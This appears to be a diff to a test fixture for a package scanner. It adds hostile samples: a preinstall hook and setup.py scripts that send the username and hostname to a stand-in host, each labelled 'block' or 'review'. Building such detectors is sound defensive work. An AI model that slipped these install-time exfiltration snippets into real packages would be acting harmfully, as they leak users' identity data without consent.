@@ -58,7 +58,8 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             {
                 "package.json": package(preinstall="node a.js"),
                 "a.js": "const os = require('os');\nconst q = require('https').request('https://a.invalid');\n"
-                "const all = { a: 1,\n  name: os.hostname(),\n};\nq.write(JSON.stringify(all));\nq.end();\n",
+                "const all = { a: 1,\n  name: os.hostname(), user: os.userInfo().username,\n};\n"
+                "q.write(JSON.stringify(all));\nq.end();\n",
             },
             "block",
             ("a.js", 4),
@@ -74,10 +75,18 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         ),
         "setup.py tells of its user": Sample(
             {
+                "setup.py": "import getpass, requests, socket\n"
+                "requests.post('https://a.invalid', json={'u': getpass.getuser(), 'h': socket.gethostname()})\n"
+            },
+            "block",
+            ("setup.py", 2),
+        ),
+        "setup.py tells one name": Sample(
+            {
                 "setup.py": "import getpass, requests\n"
                 "requests.post('https://a.invalid', json={'u': getpass.getuser()})\n"
             },
-            "block",
+            "review",
             ("setup.py", 2),
         ),
     },
